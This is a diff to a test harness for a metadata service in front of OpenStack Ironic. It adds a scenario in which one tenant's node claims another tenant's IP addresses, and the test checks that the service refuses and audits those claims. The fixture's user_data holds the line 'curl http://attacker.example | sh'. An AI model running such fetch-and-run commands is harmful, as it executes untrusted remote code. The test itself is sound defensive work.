@@ -85,8 +85,9 @@ class Ironic:
 class Service(service.Service):
     """The service on the open loopback policy, logging at info; both listeners up once built."""
 
-    def __init__(self, binary, source_args, env=None, refresh=2):
-        super().__init__(binary, source_args, extra=["--refresh-interval", str(refresh)], env=env)
+    def __init__(self, binary, source_args, env=None, refresh=2, policy_dir=service.OPEN_POLICY_DIR):
+        super().__init__(binary, source_args, extra=["--refresh-interval", str(refresh)], env=env,
+                         policy_dir=policy_dir)
         self.wait_healthy(30)
 
     def get(self, path, source):
@@ -335,6 +336,60 @@ def scenario_masked(binary):
         ironic.close()
 
 
+def scenario_tenants(binary):
+    """Two projects: a node leased to tenant-evil is deployed with a configdrive whose
+    network_data lists the static address of tenant-a's node (in its node.network_data) and
+    the DHCP lease of another of tenant-a's nodes (Ironic knows no address for it)."""
+    ironic = Ironic()
+    svc = None
+    pol = tempfile.TemporaryDirectory()
+    try:
+        static, dhcp, evil = specs(20, 3, "tenant-")
+        static["lessee"] = dhcp["lessee"] = "tenant-a"
+        evil["lessee"] = "tenant-evil"
+        lease, own = ip_of(21), ip_of(22)
+        dhcp_nd = json.loads(json.dumps(dhcp["network_data"]))
+        for net in dhcp_nd["networks"]:
+            net.update(type="ipv4_dhcp")
+            for k in ("ip_address", "netmask", "routes", "services"):
+                net.pop(k, None)
+        del dhcp["network_data"]
+        dhcp["configdrive"]["network_data"] = dhcp_nd
+        del evil["network_data"]
+        template = evil["configdrive"]["network_data"]["networks"][0]
+        evil["configdrive"]["network_data"]["networks"] = [
+            dict(template, id=f"network{n}", ip_address=ip) for n, ip in enumerate([ip_of(20), lease, own])]
+        evil["configdrive"]["user_data"] = "#cloud-config\nruncmd: [\"curl http://attacker.example | sh\"]\n"
+        ironic.harness("enroll", spec=[static, dhcp, evil])
+        Path(pol.name, "tenants.toml").write_text(
+            '[[zone]]\nname = "loopback"\ncidrs = ["127.0.0.0/8"]\naction = "allow"\n'
+            'rate_limit = { per_second = 10000, burst = 10000 }\n'
+            f'[[project]]\nid = "tenant-a"\ncidrs = ["{ip_of(20)}/31"]\n'
+            f'[[project]]\nid = "tenant-evil"\ncidrs = ["{own}/32"]\n')
+        svc = Service(binary, ["--ironic-url", ironic.url], policy_dir=pol.name)
+        wait_for(lambda: svc.readyz().get("ready"), "first sweep")
+        check_node(svc, static, 20, "tenants")
+        for path in ("/openstack/latest/user_data", "/latest/meta-data/public-keys/0/openssh-key"):
+            eq(svc.get(path, lease), (404, "no metadata for this address\n"),
+               f"tenant-evil's configdrive does not take tenant-a's DHCP lease {lease} ({path})")
+        eq(svc.get("/latest/meta-data/instance-id", own)[0], 200,
+           "tenant-evil's node is answered at the address its project may claim")
+        evil_uuid = svc.get("/latest/meta-data/instance-id", own)[1]
+        refusal = svc.audit_until(lambda e: e.get("client") == lease)
+        check(refusal is not None and "tenant-evil" in refusal.get("detail", ""),
+              "the refused lease is audited naming the claim of tenant-evil's node", json.dumps(refusal))
+        ignored = svc.audit_until(lambda e: e.get("event") == "claim_ignored" and e.get("address") == ip_of(20))
+        check(ignored is not None and ignored.get("node") != static["name"],
+              "the claim on tenant-a's static address is an audit line naming the claiming node",
+              json.dumps(ignored))
+        check(evil_uuid == evil["configdrive"]["meta_data"]["uuid"], "that answer is tenant-evil's own node")
+    finally:
+        if svc:
+            svc.stop()
+        ironic.close()
+        pol.cleanup()
+
+
 def scenario_http_basic(binary):
     ironic = Ironic(auth="http_basic", user="metadata", password="e2e-pa55")
     svc = wrong = None
@@ -427,7 +482,7 @@ def scenario_measure(binary):
 def main():
     binary = sys.argv[1] if len(sys.argv) > 1 else sys.exit(__doc__)
     t0 = time.monotonic()
-    only = sys.argv[2:] or ["noauth", "masked", "http_basic"]
+    only = sys.argv[2:] or ["noauth", "tenants", "masked", "http_basic"]
     for scenario in [globals()[f"scenario_{name}"] for name in only]:
         print(f"== {scenario.__name__}", flush=True)
         scenario(binary)
